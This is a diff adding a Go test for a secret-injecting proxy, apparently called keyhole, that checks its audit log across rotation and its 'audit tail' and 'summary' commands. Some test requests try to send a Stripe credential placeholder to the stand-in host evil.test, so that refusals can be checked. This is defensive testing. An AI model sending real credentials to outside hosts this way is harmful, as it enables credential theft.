@@ -356,3 +356,63 @@ cat "$CLONE/README"
 		t.Error("the clone's remote URL holds the real token")
 	}
 }
+
+func TestAuditLogRotationAndTail(t *testing.T) {
+	up := newUpstream(t, []string{"api.stripe.test", "evil.test"}, nil)
+	auditPath := filepath.Join(t.TempDir(), "audit.jsonl")
+	k := startKeyhole(t, fmt.Sprintf(`
+secrets:
+  STRIPE:
+    source: env:STRIPE_KEY
+    hosts: [api.stripe.test]
+resolve:
+  api.stripe.test: %s
+  evil.test: %s
+`, up.Addr(), up.Addr()), "KEYHOLE_AUDIT_LOG="+auditPath)
+
+	// Follow the log while traffic happens.
+	follow := exec.Command(binary, "audit", "tail", "-f", "--denied", auditPath)
+	follow.Env = baseEnv()
+	var followed syncBuffer
+	follow.Stdout = &followed
+	if err := follow.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { follow.Process.Kill(); follow.Wait() }()
+	time.Sleep(300 * time.Millisecond)
+
+	c := goClient{}
+	c.Do(t, k, stripeReq)
+	c.Do(t, k, request{URL: "https://evil.test/v1/x", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
+	os.Rename(auditPath, auditPath+".1")
+	k.cmd.Process.Signal(syscall.SIGHUP)
+	time.Sleep(300 * time.Millisecond)
+	c.Do(t, k, request{URL: "https://evil.test/after-rotation", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
+
+	deadline := time.Now().Add(3 * time.Second)
+	for !strings.Contains(followed.String(), "/after-rotation") && time.Now().Before(deadline) {
+		time.Sleep(50 * time.Millisecond)
+	}
+	out := followed.String()
+	if !strings.Contains(out, "evil.test/v1/x") || !strings.Contains(out, "host_not_allowed") || !strings.Contains(out, "/after-rotation") {
+		t.Errorf("audit tail -f --denied did not follow the refusals across rotation:\n%s", out)
+	}
+	if strings.Contains(out, "/v1/charges") {
+		t.Errorf("--denied showed an allowed request:\n%s", out)
+	}
+	rotated, _ := os.ReadFile(auditPath + ".1")
+	current, _ := os.ReadFile(auditPath)
+	if !strings.Contains(string(rotated), "/v1/charges") || !strings.Contains(string(current), "/after-rotation") {
+		t.Errorf("after SIGHUP the records did not go to the new file")
+	}
+
+	stdout, stderr, code := runKeyhole(t, nil, "audit", "tail", "--agent", "anonymous", "--host", "api.stripe.test", auditPath+".1")
+	if code != 0 || !strings.Contains(stdout, "api.stripe.test/v1/charges") || strings.Contains(stdout, "evil.test") {
+		t.Errorf("audit tail with filters: exit %d\n%s%s", code, stdout, stderr)
+	}
+	stdout, _, code = runKeyhole(t, nil, "audit", "summary", auditPath+".1")
+	if code != 0 || !strings.Contains(stdout, "host_not_allowed") || !strings.Contains(stdout, "STRIPE") {
+		t.Errorf("audit summary: exit %d\n%s", code, stdout)
+	}
+	assertNoSecretIn(t, "audit tail", out+stdout)
+}
